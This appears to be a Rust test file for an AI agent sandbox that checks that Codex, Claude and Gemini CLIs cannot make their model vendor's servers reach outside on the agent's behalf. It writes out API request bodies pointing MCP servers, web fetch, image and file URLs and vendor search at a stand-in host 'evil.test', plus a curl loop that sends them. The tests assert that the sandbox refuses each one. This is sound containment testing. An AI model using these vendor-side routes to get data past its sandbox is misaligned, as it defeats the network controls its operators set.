//! What an agent cannot have its model's vendor do: reach out in its place.

use glee_tests::Caller;
use serde_json::{Value, json};

use crate::api::{Api, Turn};
use crate::cli::Cli;
use crate::support::{Place, claims};

/// Prompts that would carry what stands at `@ID` out of the sandbox, or fetch what somebody left there.
fn prompts(cli: Cli) -> (&'static str, Vec<Value>) {
    let url = "https://evil.test/@ID";
    match cli {
        Cli::Codex => (
            "/v1/responses",
            vec![
                json!({"input": "x", "tools": [{"type": "mcp", "server_label": "x", "server_url": url}]}),
                json!({"input": "search for @ID", "tools": [{"type": "web_search"}]}),
                json!({"input": [{"type": "message", "role": "user", "content": [{"type": "input_image", "image_url": url}]}]}),
                json!({"input": [{"type": "message", "role": "user", "content": [{"type": "input_file", "file_url": url}]}]}),
            ],
        ),
        Cli::Claude => (
            "/v1/messages",
            vec![
                json!({"messages": [], "mcp_servers": [{"type": "url", "name": "x", "url": url}]}),
                json!({"messages": [{"role": "user", "content": url}], "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
                json!({"messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": url}}]}]}),
                json!({"messages": [{"role": "user", "content": "@ID"}], "container": "x"}),
            ],
        ),
        Cli::Gemini => (
            "/v1beta/models/m:generateContent",
            vec![
                json!({"contents": [{"parts": [{"text": url}]}], "tools": [{"urlContext": {}}]}),
                json!({"contents": [{"parts": [{"text": "@ID"}]}], "tools": [{"google_search": {}}]}),
                json!({"contents": [{"parts": [{"fileData": {"fileUri": url}}]}]}),
                json!({"contents": [{"parts": [{"file_data": {"file_uri": url}}]}]}),
            ],
        ),
    }
}

/// Sends each of them to the model's server, past the broker and through it.
fn script(cli: Cli) -> String {
    let (path, prompts) = prompts(cli);
    let asks = prompts.iter().map(|prompt| {
        format!(
            "curl -s -m 9 -w 'status %{{http_code}}\\n' -o answer.txt -H 'content-type: application/json' -d '{prompt}' \
             $base{path}; cat answer.txt"
        )
    });
    let asks = asks.collect::<Vec<_>>().join("\n");
    format!("for base in http://127.0.0.1:@PORT http://127.0.0.1:9786; do\n{asks}\ndone 2>&1")
}

/// Did a prompt of the script reach it? The CLI's own quote the script, with its quotes escaped.
fn reached(at: &Place, api: &Api) -> bool {
    let (_, prompts) = prompts(at.cli);
    let prompts: Vec<String> = prompts
        .iter()
        .map(|prompt| at.world.fill(&prompt.to_string()))
        .collect();
    api.requests().iter().any(|request| prompts.contains(&request.body))
}

claims! {
    fn a_tool_call_cannot_make_the_vendor_reach_out(at) {
        let listening = Api::serve(at.cli, vec![Turn::text("unused")]);
        at.world.define("PORT", listening.port());
        let ran = at.run("workspace", at.shell(&script(at.cli)));
        ran.succeeded(at);
        assert!(!reached(at, &ran.api) && !reached(at, &listening), "{}", ran.told());
        let told = ran.told();
        assert!(told.contains("status 403") && told.contains("no network by way of the model"), "{told}");
        assert_eq!(ran.usage()["refused"].as_u64(), Some(4), "{:#}", ran.usage());
        let bare = at.bare(at.shell(&script(at.cli)));
        assert!(reached(at, &listening), "the attempt does not work bare: {}", bare.outcome.describe());
    }
}

/// The CLI's own search is done by its vendor: it is refused, and the agent goes on.
fn a_search_by_the_vendor_is_refused_and_the_agent_goes_on(cli: Cli, caller: Caller) {
    let tool = match cli {
        Cli::Codex => panic!("codex offers none: its configuration says so"),
        Cli::Claude => "WebSearch",
        Cli::Gemini => "google_web_search",
    };
    let at = Place::of(cli, caller);
    let turns = vec![Turn::Call(tool, json!({"query": "rust"})), Turn::text("went on")];
    let ran = at.run("restricted", turns);
    ran.succeeded(&at);
    assert!(ran.outcome.says("went on"), "{}", ran.outcome.describe());
    assert!(ran.usage()["refused"].as_u64() >= Some(1), "{:#}", ran.usage());
    let searched = |body: &str| body.contains("\"type\":\"web_search") || body.contains("\"googleSearch\":");
    assert!(!ran.api.requests().iter().any(|request| searched(&request.body)));
}

mod a_search_by_the_vendor_is_refused_and_the_agent_goes_on {
    use glee_tests::Caller;

    use crate::cli::Cli;

    #[test]
    fn in_claude_of_roots() {
        super::a_search_by_the_vendor_is_refused_and_the_agent_goes_on(Cli::Claude, Caller::Root);
    }

    #[test]
    fn in_claude_of_a_users() {
        super::a_search_by_the_vendor_is_refused_and_the_agent_goes_on(Cli::Claude, Caller::User);
    }

    #[test]
    fn in_gemini_of_roots() {
        super::a_search_by_the_vendor_is_refused_and_the_agent_goes_on(Cli::Gemini, Caller::Root);
    }

    #[test]
    fn in_gemini_of_a_users() {
        super::a_search_by_the_vendor_is_refused_and_the_agent_goes_on(Cli::Gemini, Caller::User);
    }
}
